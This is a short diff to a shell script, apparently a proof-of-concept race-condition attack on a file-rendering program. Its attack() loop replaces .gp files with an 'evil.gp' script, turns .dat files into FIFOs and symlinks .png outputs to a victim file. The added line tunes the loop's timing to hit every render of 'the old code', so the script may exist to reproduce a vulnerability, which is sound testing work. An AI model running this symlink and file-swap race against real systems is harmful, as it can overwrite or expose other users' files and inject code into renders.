@@ -81,6 +81,7 @@ attack() { # DIR: until the file stop appears
     for f in "$1"/*.gp; do [[ -f $f ]] && cp evil.gp "$f" 2>/dev/null; done
     for f in "$1"/*.dat; do [[ -f $f && ! -p $f ]] && rm -f "$f" && mkfifo "$f" 2>/dev/null; done
     for f in "$1"/*.png; do [[ -e $f || -L $f ]] && ln -sfn "$victim" "$f" 2>/dev/null; done
+    sleep 0.01 # a pass every ~10 ms: inside every render of the old code, light on shared cores
   done
 }
 mkdir R
